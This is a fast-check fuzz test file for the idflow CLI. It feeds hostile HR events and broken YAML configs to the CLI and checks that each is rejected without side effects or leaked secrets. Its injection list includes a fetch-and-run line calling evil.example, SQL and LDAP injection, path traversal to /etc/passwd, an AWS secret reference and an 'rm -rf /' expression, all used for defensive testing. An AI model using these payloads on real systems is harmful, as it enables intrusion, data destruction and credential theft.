import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { projectRoot } from '../../devstack/stack';
import { stackEnv } from '../../devstack/stack-file';
import { EVENT_TYPES, InvalidEventError, parseHrEvent } from '../../domain/events';
import { eventually, idflowUsers } from '../support/iam';
import { resetRememberedWorkflows, scimUsers, temporalClient, testStack } from '../support/stack';
import { type CliResult, runIdflow, withOverrides } from '../support/cli';
import { needlesFor, scanBuffer } from './support/secrets';
import { announceSeed, SEED } from './support/seed';

/**
 * Bad input at the real CLI boundary of the shared test stack (docs/resilience.md): fuzzed hostile
 * HR events through `idflow event batch -`, malformed batch files, and broken configs through
 * `idflow config check`, `idflow plan` and `idflow worker`. Every one is rejected with a clear
 * message and exit code 2, and nothing is started or written.
 */

process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';
announceSeed('bad-input.test.ts');

const outputs: string[] = [];
const dir = mkdtempSync(join(tmpdir(), 'idflow-bad-input-'));
let started: Date;
let startedEarlier: Set<string>;
let before: { iam: number; scim: number };

/** The real CLI against the shared stack, like test/support/stack.ts idflow(), but async so several run at once. */
async function cli(args: string[], opts: { input?: string; env?: Record<string, string | undefined> } = {}): Promise<CliResult> {
  const env = withOverrides({ ...process.env, ...stackEnv(testStack()), IDFLOW_STATE_DIR: join(projectRoot(), '.idflow', 'test-cli') }, opts.env);
  const result = await runIdflow(args, env, { input: opts.input, timeoutMs: 60_000 });
  outputs.push(result.stdout, result.stderr);
  return result;
}

/** Runs the jobs two at a time (the CI machine has two cores). */
async function inPairs<T>(jobs: (() => Promise<T>)[]): Promise<T[]> {
  const out: T[] = [];
  for (let i = 0; i < jobs.length; i += 2) out.push(...(await Promise.all(jobs.slice(i, i + 2).map((j) => j()))));
  return out;
}

async function workflowsStartedSince(since: Date): Promise<string[]> {
  const { client, close } = await temporalClient();
  try {
    const ids: string[] = [];
    for await (const wf of client.workflow.list({ query: `StartTime >= '${since.toISOString()}'` })) ids.push(`${wf.type} ${wf.workflowId}`);
    return ids;
  } finally {
    await close();
  }
}

async function targetCounts(): Promise<{ iam: number; scim: number }> {
  return { iam: (await idflowUsers()).length, scim: (await scimUsers()).length };
}

beforeAll(async () => {
  // Work left by other test files (a leaver's retention, say) must not be mistaken for ours.
  // The revocation guard's window and remembered leavers run for as long as their state lasts (an hour, a day): end them.
  await resetRememberedWorkflows();
  const { client, close } = await temporalClient();
  try {
    await eventually('no workflow running on the shared stack', async () => {
      const running: string[] = [];
      for await (const wf of client.workflow.list({ query: `ExecutionStatus = 'Running'` })) running.push(wf.workflowId);
      return running;
    }, (running) => running.length === 0, 60_000);
  } finally {
    await close();
  }
  before = await targetCounts();
  // A second of margin for clock skew; runs other files started in that second are not ours.
  started = new Date(Date.now() - 1000);
  startedEarlier = new Set(await workflowsStartedSince(started));
}, 90_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

// ---------------------------------------------------------------- hostile HR events

/** Each event as the CLI will see it after JSON, and the message parseHrEvent gives for the first bad one. */
function firstInvalid(events: unknown[]): { index: number; message: string } | null {
  for (const [i, e] of events.entries()) {
    const clean = Object.fromEntries(Object.entries(e as object).filter(([, v]) => v !== undefined));
    try {
      parseHrEvent(clean);
    } catch (err) {
      if (err instanceof InvalidEventError) return { index: i, message: err.message };
      throw err;
    }
  }
  return null;
}

const injection = fc.constantFrom(
  "E1001' or employeeId ne '",
  'E1001" or 1 eq 1',
  "'; DROP TABLE users; --",
  '$(curl evil.example | sh)',
  '`id`',
  '${env:AWS_SECRET_ACCESS_KEY}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '../../etc/passwd',
  'identity-E1001/../identity-E1002',
  'E1001\r\nX-Injected: 1',
  'E1001%00',
  'E1001)(|(uid=*))',
  '%s%s%s%n',
  '*',
  'E1001 OR 1=1',
  '\u202eE1001',
  '\u0415\u0031\u0030\u0030\u0031', // Cyrillic Е
  'E\uff11\uff10\uff10\uff11', // full-width digits
  'E1001\u200b',
  'E1001\ud83d\ude00',
  '\ud800',
);
const withControl = fc
  .tuple(fc.stringMatching(/^E[0-9]{1,4}$/), fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 8 }), fc.stringMatching(/^[0-9]{1,3}$/))
  .map(([a, c, b]) => `${a}${c}${b}`);
const unicode = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }).filter((s) => /[^\x20-\x7e]/.test(s));
const huge = fc.tuple(fc.integer({ min: 129, max: 300_000 }), fc.constantFrom('E', '1', ' ', '\u00e9', 'x-')).map(([n, c]) => c.repeat(n));
const wrongType = fc.oneof(fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }), fc.dictionary(fc.string({ maxLength: 4 }), fc.string({ maxLength: 4 }), { maxKeys: 2 }));
const badDate = fc.constantFrom('tomorrow', '2026-12-01', '2026-12-01T09:00:00', '2026-13-45T25:61:00Z', '1e10', '', ' ', '2026-12-01T09:00:00+25:00', "2026-12-01T09:00:00Z'; --", 'now');
const hostileValue = fc.oneof(injection, withControl, unicode, huge, wrongType, badDate);

const validEvent = fc.record(
  {
    type: fc.constantFrom(...EVENT_TYPES),
    // E9xxx: nobody in the simulated directory, should anything ever get through.
    employeeId: fc.stringMatching(/^E9[0-9]{3}$/),
    eventId: fc.stringMatching(/^[A-Za-z0-9-]{1,20}$/),
    note: fc.stringMatching(/^[A-Za-z0-9 .,-]{0,40}$/),
    effectiveAt: fc.constantFrom('2026-12-01T09:00:00Z', '2027-01-04T08:30:00+01:00'),
  },
  { requiredKeys: ['type', 'employeeId'] },
);

type Mutation = { set: string; value: unknown } | { unset: 'type' | 'employeeId' };
const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ set: fc.constantFrom('employeeId', 'type', 'eventId', 'note', 'effectiveAt'), value: hostileValue }),
  fc.record({
    set: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'employeeID', 'Type', 'effective_at', '$where', 'workflowId', 'taskQueue'), fc.string({ minLength: 1, maxLength: 16 })),
    value: fc.jsonValue({ maxDepth: 2 }),
  }),
  fc.record({ unset: fc.constantFrom('type' as const, 'employeeId' as const) }),
);

/** Own properties only, so `__proto__` and friends are data, exactly as JSON.parse makes them. */
function mutate(base: Record<string, unknown>, mutations: Mutation[]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [k, v] of Object.entries(base)) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
  for (const m of mutations) {
    if ('unset' in m) delete out[m.unset];
    else Object.defineProperty(out, m.set, { value: m.value, enumerable: true, writable: true, configurable: true });
  }
  return out;
}

const hostileEvent = fc.tuple(validEvent, fc.array(mutation, { minLength: 1, maxLength: 3 })).map(([e, ms]) => mutate(e, ms)).filter((e) => firstInvalid([JSON.parse(JSON.stringify(e))]) !== null);

const hostileBatch = fc
  .tuple(fc.array(validEvent, { maxLength: 3 }), hostileEvent, fc.array(fc.oneof(validEvent, hostileEvent), { maxLength: 3 }), fc.boolean())
  .map(([head, bad, tail, lines]) => {
    const events = [...head, bad, ...tail];
    return { lines, text: lines ? events.map((e) => JSON.stringify(e)).join('\n') : JSON.stringify(events) };
  });

describe('hostile HR events through `idflow event batch -`', () => {
  test('fuzzed batches (wrong types, huge strings, control characters, unicode, injection attempts, unknown and missing fields) exit 2 naming the first bad event, and nothing is sent', async () => {
    let runs = 0;
    await fc.assert(
      fc.asyncProperty(hostileBatch, async ({ lines, text }) => {
        runs += 1;
        const parsed: unknown[] = lines ? text.split('\n').map((l) => JSON.parse(l)) : (JSON.parse(text) as unknown[]);
        const bad = firstInvalid(parsed)!;
        const r = await cli(['event', 'batch', '-'], { input: text });
        expect({ status: r.status, stdout: r.stdout }).toEqual({ status: 2, stdout: '' });
        // Exactly the domain's message, for the right event: no stack trace, nothing else.
        const expected = `idflow: event ${bad.index + 1}: ${bad.message}\n`;
        if (expected.length < 60_000) expect(r.stderr).toBe(expected);
        else expect(r.stderr.startsWith(expected.slice(0, 1000))).toBe(true);
        expect(r.stderr).toMatch(/^idflow: event \d+: invalid HR event: /);
      }),
      { numRuns: 20, seed: SEED, endOnFailure: true },
    );
    expect(runs).toBe(20);
  }, 120_000);

  test.each([
    ['truncated JSON', '[{"type":"joiner","employeeId":"E9001"', /^idflow: - is not JSON or JSON lines: /],
    ['a trailing comma', '[{"type":"joiner","employeeId":"E9001"},]', /^idflow: - is not JSON or JSON lines: /],
    ['NaN', '[{"type":"joiner","employeeId":NaN}]', /^idflow: - is not JSON or JSON lines: /],
    ['a comment', '// HR export\n{"type":"joiner","employeeId":"E9001"}', /^idflow: - is not JSON or JSON lines: /],
    ['an object over several lines', '{\n  "type": "joiner",\n  "employeeId": "E9001"\n}', /^idflow: - is not JSON or JSON lines: /],
    ['deep nesting', `[${'['.repeat(100_000)}${']'.repeat(100_000)}]`, /^idflow: (- is not JSON or JSON lines: |event 1: invalid HR event: )/],
    ['an event with a huge number', '[{"type":"joiner","employeeId":1e999}]', /^idflow: event 1: invalid HR event: employeeId: employeeId must be a string\n$/],
    ['the second line bad', '{"type":"joiner","employeeId":"E9001"}\n{"type":"joiner","employeeId":"E9002","admin":true}', /^idflow: event 2: invalid HR event: unknown field "admin"\n$/],
  ])('a malformed batch (%s) exits 2 with a clear message', async (_name, input, message) => {
    const r = await cli(['event', 'batch', '-'], { input });
    expect({ status: r.status, stdout: r.stdout }).toEqual({ status: 2, stdout: '' });
    expect(r.stderr).toMatch(message);
  });

  // Once a known weakness (docs/resilience.md, "HR events that are not objects"), now fixed.
  test('an entry that is not an object (null, a number, a string, an array) is rejected as such, with exit 2', async () => {
    const results = await inPairs(['[null]', '[{"type":"joiner","employeeId":"E9001"},null]', '[42]', '["joiner"]', '[["joiner","E9001"]]'].map((input) => () => cli(['event', 'batch', '-'], { input })));
    for (const r of results) {
      expect(r.status).toBe(2);
      expect(r.stderr).toMatch(/^idflow: event \d: invalid HR event: /);
      expect(r.stderr).not.toMatch(/unknown fields? "0"/);
    }
  });

  // Once a known weakness (docs/resilience.md, "echoed field names"), now fixed.
  test('an unknown field name with terminal escape sequences is not echoed raw to the terminal', async () => {
    const r = await cli(['event', 'batch', '-'], { input: JSON.stringify([{ type: 'joiner', employeeId: 'E9001', '\u001b[2J\u001b[31mPWNED\u0007': 1 }]) });
    expect(r.status).toBe(2);
    const controls = [...r.stderr].filter((c) => c !== '\n' && (c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f));
    expect(controls).toEqual([]);
  });

  // Once a known weakness (docs/resilience.md, "echoed field names"), now fixed.
  test('a huge unknown field name gives a short, complete error message', async () => {
    const r = await cli(['event', 'batch', '-'], { input: JSON.stringify([{ type: 'joiner', employeeId: 'E9001', ['k'.repeat(200_000)]: 1 }]) });
    expect(r.status).toBe(2);
    expect(r.stderr.length).toBeLessThan(10_000);
    expect(r.stderr.endsWith('\n')).toBe(true);
  });
});

// ---------------------------------------------------------------- broken configs

const TARGET = `
  aws:
    type: aws-iam
    region: us-east-1
    endpoint: \${env:IDFLOW_IAM_ENDPOINT}
    userName: lower(localPart(userPrincipalName))
`;

const BROKEN_CONFIGS: { name: string; yaml: string; problem: RegExp }[] = [
  { name: 'not YAML (unclosed quote)', yaml: `version: 1\ntargets:\n  aws:\n    type: "aws-iam\n    userName: x\n`, problem: /:\d+ \(root\): / },
  { name: 'tabs for indentation', yaml: `version: 1\ntargets:\n\taws: 1\n`, problem: /:3 \(root\): Tabs are not allowed as indentation/ },
  { name: 'a key twice', yaml: `version: 1\ntargets:${TARGET}${TARGET}`, problem: /:\d+ \(root\): Map keys must be unique/ },
  { name: 'an empty file', yaml: '', problem: / \(root\): Invalid input: expected object/ },
  { name: 'version 2', yaml: `version: 2\ntargets:${TARGET}`, problem: /:1 version: / },
  { name: 'a misspelt key', yaml: `version: 1\ntargets:${TARGET}    onLeaveScop: delete\n`, problem: /:8 targets\.aws: unknown key onLeaveScop/ },
  { name: 'a wrong type', yaml: `version: 1\ntargets:${TARGET}    deletionGuard:\n      maxCount: ten\n`, problem: /:9 targets\.aws\.deletionGuard\.maxCount: / },
  { name: 'a percentage over 100', yaml: `version: 1\ntargets:${TARGET}    deletionGuard:\n      maxPercent: 150\n`, problem: /:9 targets\.aws\.deletionGuard\.maxPercent: / },
  { name: 'a string where a list belongs', yaml: `version: 1\ntargets:${TARGET}    scope:\n      groups: All Staff\n`, problem: /:9 targets\.aws\.scope\.groups: / },
  { name: 'an unknown target type', yaml: `version: 1\ntargets:\n  dir:\n    type: ldap\n    userName: mail\n`, problem: /:4 targets\.dir\.type: / },
  { name: 'an unset variable without a default', yaml: `version: 1\ntargets:${TARGET.replace('IDFLOW_IAM_ENDPOINT', 'IDFLOW_RESILIENCE_NEVER_SET')}`, problem: /:6 targets\.aws\.endpoint: environment variable IDFLOW_RESILIENCE_NEVER_SET is not set/ },
  { name: 'an expression calling an unknown function', yaml: `version: 1\ntargets:${TARGET.replace('lower(localPart(userPrincipalName))', 'exec("rm -rf /")')}`, problem: /:7 targets\.aws\.userName: unknown function "exec"/ },
  { name: 'an unfinished expression', yaml: `version: 1\ntargets:${TARGET.replace('lower(localPart(userPrincipalName))', 'lower(')}`, problem: /:7 targets\.aws\.userName: / },
  { name: 'a YAML tag asking for code', yaml: `version: 1\ntargets:\n  aws: !!js/function "function () { return process.exit(7) }"\n`, problem: /:3 targets\.aws: / },
];

describe('broken configs', () => {
  test.each(BROKEN_CONFIGS.map((c) => [c.name, c] as const))('%s: config check and plan exit 2 with file:line, and a worker refuses to start', async (_name, c) => {
    const file = join(dir, `${c.name.replace(/\W+/g, '-')}.yaml`);
    writeFileSync(file, c.yaml);
    const env = { IDFLOW_CONFIG: file };
    const [check, plan] = await Promise.all([cli(['config', 'check'], { env }), cli(['plan'], { env })]);
    for (const r of [check, plan]) {
      expect({ status: r.status, stdout: r.stdout }).toEqual({ status: 2, stdout: '' });
      expect(r.stderr.startsWith(`idflow: ${file} is not a valid idflow config:\n  ${file}`)).toBe(true);
      expect(r.stderr).toMatch(c.problem);
    }
  });

  test('a worker with a broken config exits at once, naming file and line, before it polls any task', async () => {
    const file = join(dir, 'worker.yaml');
    writeFileSync(file, `version: 1\ntargets:${TARGET}    onLeaveScop: delete\n`);
    const r = await cli(['worker'], { env: { IDFLOW_CONFIG: file, IDFLOW_TASK_QUEUE: `resilience-broken-${SEED}` } });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain(`${file}:8 targets.aws: unknown key onLeaveScop`);
    expect(r.stderr).not.toContain('idflow worker: task queue');
  });

  // Once a known weakness (docs/resilience.md, "YAML alias bomb"), now fixed.
  test('a YAML alias bomb is a config error with the file name and exit 2 everywhere', async () => {
    const file = join(dir, 'bomb.yaml');
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]', ...'bcdefgh'.split('').map((l, i) => `${l}: &${l} [${Array(10).fill(`*${'abcdefgh'[i]}`).join(',')}]`)];
    writeFileSync(file, `${levels.join('\n')}\nversion: 1\n`);
    const [check, plan] = await Promise.all([cli(['config', 'check'], { env: { IDFLOW_CONFIG: file } }), cli(['plan'], { env: { IDFLOW_CONFIG: file } })]);
    for (const r of [check, plan]) {
      expect(r.status).toBe(2);
      expect(r.stderr).toContain(file);
    }
  });

  // Once a known weakness (docs/resilience.md, "a secret referenced by mistake is echoed"), now fixed.
  test('a secret referenced by mistake from an expression is not echoed in the error', async () => {
    const secret = 'scimTokenDoNotEchoMe0123456789';
    const file = join(dir, 'secret.yaml');
    writeFileSync(file, `version: 1\ntargets:${TARGET}    attributes:\n      Department: \${env:IDFLOW_SCIM_TOKEN}\n`);
    const r = await cli(['config', 'check'], { env: { IDFLOW_CONFIG: file, IDFLOW_SCIM_TOKEN: secret } });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(':9 targets.aws.attributes.Department');
    expect(r.stderr).not.toContain(secret);
  });
});

// ---------------------------------------------------------------- nothing started, nothing written, nothing leaked

describe('after all of the above', () => {
  test('no workflow was started and the targets hold what they held before', async () => {
    expect((await workflowsStartedSince(started)).filter((wf) => !startedEarlier.has(wf))).toEqual([]);
    expect(await targetCounts()).toEqual(before);
  });

  test("no CLI output holds one of the stack's secrets", () => {
    const info = testStack();
    const needles = [...needlesFor('Graph client secret', info.graph.clientSecret), ...needlesFor('SCIM token', info.scim.token), ...needlesFor('codec token', info.encryption.codecToken)];
    expect(outputs.length).toBeGreaterThan(40);
    expect(outputs.flatMap((text, i) => scanBuffer(Buffer.from(text), needles, `output ${i}`))).toEqual([]);
  });
});
